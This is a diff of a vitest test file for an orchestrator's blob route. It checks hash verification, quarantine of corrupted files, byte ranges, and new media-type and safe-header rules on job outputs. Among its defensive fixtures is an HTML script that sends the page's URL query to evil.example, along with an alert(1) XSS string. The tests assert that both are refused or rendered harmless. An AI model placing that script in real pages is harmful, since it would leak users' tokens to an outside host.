@@ -7,6 +7,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import WebSocket from 'ws';
 import { LINK_PATH, LINK_PROTOCOL_VERSION, type OrchestratorMessage } from '../../src/protocol/index.js';
 import { meshForFile, waitFor } from '../helpers/mesh.js';
+import { scriptedPng } from '../helpers/scripted-agent.js';
 
 /**
  * The blob route of a real orchestrator over HTTP: verified bytes, quarantine
@@ -14,26 +15,49 @@ import { meshForFile, waitFor } from '../helpers/mesh.js';
  * outputs — a scripted agent on a real link, uploading through the real upload
  * route with its batch's credential (so the store records their size and media
  * type) — and corrupted on disk, as a failing disk or a careless operator would.
+ * Outputs must be what their media type says, of a type their job type may
+ * produce, and blobs are served so that they cannot script the origin.
  */
-const running = meshForFile({ args: ['--no-agent'] });
-/** A job the scripted agent keeps running, and the credential that lets it upload that job's outputs. */
+// Tests here fail attempts on purpose, one after another, on the one host there is: its breaker must not open.
+const running = meshForFile({ args: ['--no-agent'], config: { breakers: { replica: { failuresToOpen: 1000, window: 1000, minCalls: 1000 } } } });
+/** A video job the scripted agent keeps running, and the credential that lets it upload that job's outputs (clips). */
 let jobId: string;
 let credential: string;
 /** The PNG output of a job that finished. */
 let published: string;
 let agent: WebSocket;
+let heartbeat: NodeJS.Timeout | undefined;
+type Run = Extract<OrchestratorMessage, { type: 'run' }>;
+/** What the orchestrator sent the scripted agent, runs and acks, not yet taken by a test. */
+const inbox: OrchestratorMessage[] = [];
+/** The next batch sent to the scripted agent (of the job `jobId`, if named). */
+const nextRun = (jobId?: string): Promise<Run> => waitFor(() => {
+  const index = inbox.findIndex((message) => message.type === 'run' && (jobId === undefined || message.jobs.some((job) => job.id === jobId)));
+  return index < 0 ? null : (inbox.splice(index, 1)[0] as Run);
+}, { what: `a run message${jobId ? ` for ${jobId}` : ''}` });
+
+/** Random bytes that pass for an MP4 (an `ftyp` box, then noise): an upload's bytes are checked against its media type. */
+const FTYP = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypisom'), Buffer.from([0, 0, 2, 0]), Buffer.from('isomiso2')]);
+function clip(size: number): Buffer {
+  const bytes = randomBytes(size);
+  FTYP.copy(bytes);
+  return bytes;
+}
 
 const digestOf = (bytes: Uint8Array): string => `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
 const fileOf = (digest: string): string => join(running().data, 'blobs', 'sha256', digest.slice(7, 9), digest.slice(7));
 const auth = (): Record<string, string> => ({ authorization: `Bearer ${running().admin}` });
 
-async function upload(bytes: Buffer, mediaType = 'video/mp4'): Promise<string> {
-  const digest = digestOf(bytes);
-  const response = await fetch(`${running().url}/v1/jobs/${jobId}/outputs/${digest}`, {
-    method: 'PUT', body: new Uint8Array(bytes), headers: { authorization: `Bearer ${credential}`, 'content-type': mediaType },
+function put(bytes: Buffer, mediaType: string, to = { jobId, credential }): Promise<Response> {
+  return fetch(`${running().url}/v1/jobs/${to.jobId}/outputs/${digestOf(bytes)}`, {
+    method: 'PUT', body: new Uint8Array(bytes), headers: { authorization: `Bearer ${to.credential}`, 'content-type': mediaType },
   });
+}
+
+async function upload(bytes: Buffer, mediaType = 'video/mp4'): Promise<string> {
+  const response = await put(bytes, mediaType);
   expect(response.status).toBe(201);
-  return digest;
+  return digestOf(bytes);
 }
 
 async function get(digest: string, headers: Record<string, string> = {}, method = 'GET') {
@@ -83,28 +107,38 @@ function expectIntegrityError(answer: Awaited<ReturnType<typeof get>>, mention: 
 
 beforeAll(async () => {
   const client = running().client();
-  const { token } = await client.request<{ token: string }>('POST', '/v1/grants', { kind: 'agent', host: 'scripted', classes: ['image'] });
+  const { token } = await client.request<{ token: string }>('POST', '/v1/grants', { kind: 'agent', host: 'scripted', classes: ['image', 'video'] });
   const url = new URL(LINK_PATH, running().url);
   url.protocol = 'ws:';
   agent = new WebSocket(url, { headers: { authorization: `Bearer ${token}` } });
-  const inbox: OrchestratorMessage[] = [];
+  const devices = [{ id: 'cpu', kind: 'cpu', name: 'scripted', memoryTotalMB: 8192, budgetMB: 4096, usedMB: 0 }];
+  const resident = new Map<string, { model: string; digest: string; device: string; memoryMB: number; lastUsedAt: number }>();
   agent.on('message', (data) => {
     const message = JSON.parse(data.toString()) as OrchestratorMessage;
+    // Heartbeats keep the link alive however long the tests take (a slow machine), naming what was loaded.
+    if (message.type === 'welcome') {
+      heartbeat = setInterval(() => agent.send(JSON.stringify({ type: 'heartbeat', resident: [...resident.values()].map((model) => ({ ...model, lastUsedAt: Date.now() })), devices })), message.heartbeatMs);
+      return;
+    }
     // The autoscaler places a replica before it sends batches: answer as an agent that loaded it.
     if (message.type === 'load') {
-      agent.send(JSON.stringify({ type: 'loaded', model: message.model.name, digest: message.model.digest, device: 'cpu', memoryMB: message.model.memoryMB }));
+      const { name, digest, memoryMB } = message.model;
+      resident.set(name, { model: name, digest, device: 'cpu', memoryMB, lastUsedAt: Date.now() });
+      agent.send(JSON.stringify({ type: 'loaded', model: name, digest, device: 'cpu', memoryMB }));
+      return;
+    }
+    // A health probe of an idle replica (a slow run) passes, as a real agent's does: it must not hold a slot.
+    if (message.type === 'run' && message.probe) {
+      for (const job of message.jobs) agent.send(JSON.stringify({ type: 'done', jobId: job.id, batchId: message.batchId, artifacts: [], timings: { loadMs: 0, computeMs: 1, totalMs: 1 } }));
       return;
     }
     inbox.push(message);
   });
   agent.on('open', () => agent.send(JSON.stringify({
-    type: 'hello', protocol: LINK_PROTOCOL_VERSION, host: 'scripted', classes: ['image'], engines: ['onnx'], models: [], inFlight: [],
-    devices: [{ id: 'cpu', kind: 'cpu', name: 'scripted', memoryTotalMB: 8192, budgetMB: 4096, usedMB: 0 }], concurrency: 1, version: 'test',
+    type: 'hello', protocol: LINK_PROTOCOL_VERSION, host: 'scripted', classes: ['image', 'video'], engines: ['onnx'], models: [], inFlight: [],
+    // Room for the job the tests hold running and for the jobs they finish one by one.
+    devices, concurrency: 4, version: 'test',
   })));
-  const nextRun = () => waitFor(() => {
-    const index = inbox.findIndex((message) => message.type === 'run');
-    return index < 0 ? null : (inbox.splice(index, 1)[0] as Extract<OrchestratorMessage, { type: 'run' }>);
-  }, { what: 'a run message' });
   // The first job finishes with a real PNG, uploaded like any output, so it is an artifact.
   const first = await client.submit({ type: 'image', input: { prompt: 'blob owner', width: 64, height: 64, steps: 2 } });
   const run = await nextRun();
@@ -114,18 +148,21 @@ beforeAll(async () => {
   published = await upload(png, 'image/png');
   agent.send(JSON.stringify({ type: 'done', jobId, batchId: run.batchId, artifacts: [{ digest: published, mediaType: 'image/png', bytes: png.length }], timings: { loadMs: 0, computeMs: 1, totalMs: 1 } }));
   expect((await client.follow(first.id)).type).toBe('succeeded');
-  // The second stays running: the tests upload their blobs as its outputs.
-  const second = await client.submit({ type: 'image', input: { prompt: 'blob holder', width: 64, height: 64, steps: 2 } });
+  // The second, a clip, stays running: the tests upload their blobs as its outputs.
+  const second = await client.submit({ type: 'video', input: { prompt: 'blob holder', frames: 2, width: 16, height: 16, steps: 1 } });
   const held = await nextRun();
   jobId = second.id;
   credential = held.uploadCredential;
 });
 
-afterAll(() => agent?.close());
+afterAll(() => {
+  clearInterval(heartbeat);
+  agent?.close();
+});
 
 describe('verified blobs', () => {
   it('a good blob streams whole and is hashed once; later GETs are served from its verified mark', async () => {
-    const bytes = randomBytes(1024 * 1024 + 17);
+    const bytes = clip(1024 * 1024 + 17);
     const digest = await upload(bytes);
     const before = await verifications();
     const first = await get(digest);
@@ -133,6 +170,8 @@ describe('verified blobs', () => {
     expect(first.bytes.equals(bytes)).toBe(true);
     expect(first.headers.get('content-length')).toBe(String(bytes.length));
     expect(first.headers.get('content-type')).toBe('video/mp4');
+    expect(first.headers.get('content-disposition')).toBe(`inline; filename="${digest.slice(7, 23)}.mp4"`);
+    expect(first.headers.get('x-content-type-options')).toBe('nosniff');
     expect(first.headers.get('accept-ranges')).toBe('bytes');
     expect(first.headers.get('etag')).toBe(`"${digest}"`);
     expect(first.headers.get('cache-control')).toContain('immutable');
@@ -173,7 +212,7 @@ describe('verified blobs', () => {
   });
 
   it('flipped bytes in a large blob, served before: fetch sees a broken transfer; the file is quarantined, logged and counted', async () => {
-    const bytes = randomBytes(2 * 1024 * 1024);
+    const bytes = clip(2 * 1024 * 1024);
     const digest = await upload(bytes);
     expect((await get(digest)).status).toBe(200); // verified and marked
     const failed = await failures('hash');
@@ -192,7 +231,7 @@ describe('verified blobs', () => {
   });
 
   it('node:http sees the response end short of its Content-Length', async () => {
-    const bytes = randomBytes(512 * 1024);
+    const bytes = clip(512 * 1024);
     const digest = await upload(bytes);
     flipByte(digest, 0);
     const outcome = await new Promise<{ status: number; length: number; received: number; complete: boolean }>((resolve, reject) => {
@@ -214,7 +253,7 @@ describe('verified blobs', () => {
   });
 
   it('a truncated file is refused before a byte is sent', async () => {
-    const digest = await upload(randomBytes(300_000));
+    const digest = await upload(clip(300_000));
     const before = { size: await failures('size'), hashes: await verifications() };
     truncateSync(fileOf(digest), 150_000);
     expectIntegrityError(await get(digest), 'its file holds 150000 bytes, not the 300000 bytes recorded');
@@ -224,7 +263,7 @@ describe('verified blobs', () => {
   });
 
   it('a range of a corrupt blob is refused before a byte is sent, even outside the flipped byte', async () => {
-    const digest = await upload(randomBytes(400_000));
+    const digest = await upload(clip(400_000));
     flipByte(digest, 399_999);
     expectIntegrityError(await get(digest, { range: 'bytes=0-99' }), 'its bytes hash to');
     expect(quarantined(digest)).toHaveLength(1);
@@ -240,7 +279,7 @@ describe('byte ranges', () => {
   let bytes: Buffer;
   let digest: string;
   beforeAll(async () => {
-    bytes = randomBytes(SIZE);
+    bytes = clip(SIZE);
     digest = await upload(bytes);
   });
 
@@ -295,5 +334,133 @@ describe('byte ranges', () => {
     const answer = await get(digest, { range: 'bytes=0-1,10-11' });
     expect(answer.status).toBe(200);
     expect(answer.bytes.equals(bytes)).toBe(true);
+  });
+});
+
+describe('outputs are what they claim, and blobs cannot script the origin (issue 19)', () => {
+  const timings = { loadMs: 0, computeMs: 1, totalMs: 1 };
+  const send = (message: unknown): void => agent.send(JSON.stringify(message));
+  const inline = (bytes: Buffer, mediaType: string) => ({ digest: digestOf(bytes), mediaType, bytes: bytes.length, inline: bytes.toString('base64') });
+  const hex16 = (digest: string): string => digest.slice(7, 23);
+  /** A page that would read the grant in its own URL, were it ever run on the orchestrator's origin. */
+  const html = Buffer.from('<!doctype html><script>fetch("https://evil.example/?" + location.search)</script>');
+
+  /** An image job submitted and dispatched to the scripted agent. */
+  async function started(prompt: string): Promise<{ id: string; run: Run; to: { jobId: string; credential: string } }> {
+    const { id } = await running().client().submit({ type: 'image', input: { prompt, width: 64, height: 64, steps: 2 } });
+    const run = await nextRun(id);
+    return { id, run, to: { jobId: id, credential: run.uploadCredential } };
+  }
+
+  /** The report was refused: the job is tried again (here failed for good, so it ends); the first attempt's error. */
+  async function refusedAttempt(id: string): Promise<{ code: string; message: string }> {
+    const ended = running().client().follow(id);
+    const retry = await Promise.race([nextRun(id), ended]);
+    if (retry.type !== 'run') throw new Error(`the report was not refused: the job ended ${retry.type}`);
+    send({ type: 'failed', jobId: id, batchId: retry.batchId, retryable: false, error: { code: 'INVALID_INPUT', message: 'ended by the test' } });
+    expect((await ended).type).toBe('failed');
+    const view = await running().client().job(id);
+    expect(view.artifacts).toEqual([]);
+    return view.attempts[0]!.error!;
+  }
+
+  function expectSafeHeaders(answer: { headers: Headers }): void {
+    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
+  }
+
+  it('an inline text/html output fails the attempt with INTEGRITY_FAILED and is never stored or served', async () => {
+    const { id, run } = await started('html inline');
+    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [inline(html, 'text/html')] });
+    const error = await refusedAttempt(id);
+    expect(error.code).toBe('INTEGRITY_FAILED');
+    expect(error.message).toContain('text/html is not an output type of image jobs');
+    const answer = await get(digestOf(html));
+    expect(answer.status).toBe(404);
+    expect(answer.headers.get('content-type')).not.toContain('text/html');
+  });
+
+  it('HTML declared as image/png fails the attempt: the bytes are checked against the type they claim', async () => {
+    const { id, run } = await started('html as png');
+    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [inline(html, 'image/png')] });
+    const error = await refusedAttempt(id);
+    expect(error.code).toBe('INTEGRITY_FAILED');
+    expect(error.message).toContain('the bytes are not image/png');
+    expect((await get(digestOf(html))).status).toBe(404);
+  });
+
+  it('a real PNG is kept and served as an image, with nosniff, a sandboxing CSP and an inline disposition', async () => {
+    const png = scriptedPng('a real png');
+    const { id, run } = await started('real png');
+    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [inline(png, 'image/png')] });
+    expect((await running().client().follow(id)).type).toBe('succeeded');
+    const digest = digestOf(png);
+    for (const answer of [await get(digest), await get(digest, {}, 'HEAD'), await get(digest, { range: 'bytes=0-9' })]) {
+      expect(answer.status).toBeLessThan(300);
+      expect(answer.headers.get('content-type')).toBe('image/png');
+      expect(answer.headers.get('content-disposition')).toBe(`inline; filename="${hex16(digest)}.png"`);
+      expectSafeHeaders(answer);
+    }
+    expect((await get(digest)).bytes.equals(png)).toBe(true);
+    const cached = await get(digest, { 'if-none-match': `"${digest}"` });
+    expect(cached.status).toBe(304);
+    expectSafeHeaders(cached);
+  });
+
+  it('JSON and plain text outputs are kept, and served as attachments', async () => {
+    const json = Buffer.from('{"scores":[0.25,0.75],"note":"<script>alert(1)</script>"}');
+    const text = Buffer.from('a caption, with <b>markup</b> that stays text\n');
+    const { id, run } = await started('json and text');
+    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [inline(json, 'application/json'), inline(text, 'text/plain')] });
+    expect((await running().client().follow(id)).type).toBe('succeeded');
+    const [asJson, asText] = [await get(digestOf(json)), await get(digestOf(text))];
+    expect(asJson.status).toBe(200);
+    expect(asJson.bytes.equals(json)).toBe(true);
+    expect(asJson.headers.get('content-type')).toBe('application/json');
+    expect(asJson.headers.get('content-disposition')).toBe(`attachment; filename="${hex16(digestOf(json))}.json"`);
+    expectSafeHeaders(asJson);
+    expect(asText.headers.get('content-type')).toBe('text/plain; charset=utf-8');
+    expect(asText.headers.get('content-disposition')).toBe(`attachment; filename="${hex16(digestOf(text))}.txt"`);
+    expectSafeHeaders(asText);
+  });
+
+  it('JSON that does not parse fails the attempt', async () => {
+    const { id, run } = await started('bad json');
+    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [inline(Buffer.from('{"open": '), 'application/json')] });
+    const error = await refusedAttempt(id);
+    expect(error.code).toBe('INTEGRITY_FAILED');
+    expect(error.message).toContain('does not parse as JSON');
+  });
+
+  it('an upload whose bytes are not its Content-Type, or whose type the job may not produce, is refused (415) and leaves nothing to publish', async () => {
+    const { id, run, to } = await started('lying upload');
+    const refusal = async (bytes: Buffer, mediaType: string): Promise<string> => {
+      const response = await put(bytes, mediaType, to);
+      expect(response.status, mediaType).toBe(415);
+      const { error } = (await response.json()) as { error: { code: string; message: string } };
+      expect(error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
+      return error.message;
+    };
+    expect(await refusal(html, 'image/png')).toContain('the bytes are not image/png: they carry no signature of a known media type');
+    const jpeg = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#cc3366' } }).jpeg().toBuffer();
+    expect(await refusal(jpeg, 'image/png')).toContain('the bytes are not image/png: their signature is that of image/jpeg');
+    expect(await refusal(html, 'text/html')).toContain('text/html is not an output type of image jobs');
+    expect(await refusal(scriptedPng('a png, not a clip'), 'video/mp4')).toContain('video/mp4 is not an output type of image jobs');
+    for (const bytes of [html, jpeg]) expect((await get(digestOf(bytes))).status).toBe(404);
+    // A report that names the refused upload anyway fails the attempt: it was never uploaded for the job.
+    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [{ digest: digestOf(html), mediaType: 'image/png', bytes: html.length }] });
+    const error = await refusedAttempt(id);
+    expect(error.code).toBe('INTEGRITY_FAILED');
+    expect(error.message).toContain('never uploaded');
+  });
+
+  it('a report cannot relabel an upload: the type its bytes were checked against is the one that counts', async () => {
+    const { id, run, to } = await started('relabelled');
+    const png = scriptedPng('relabelled');
+    expect((await put(png, 'image/png', to)).status).toBe(201);
+    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [{ digest: digestOf(png), mediaType: 'text/plain', bytes: png.length }] });
+    const error = await refusedAttempt(id);
+    expect(error.code).toBe('INTEGRITY_FAILED');
+    expect(error.message).toContain('was reported as text/plain but stored as image/png');
   });
 });
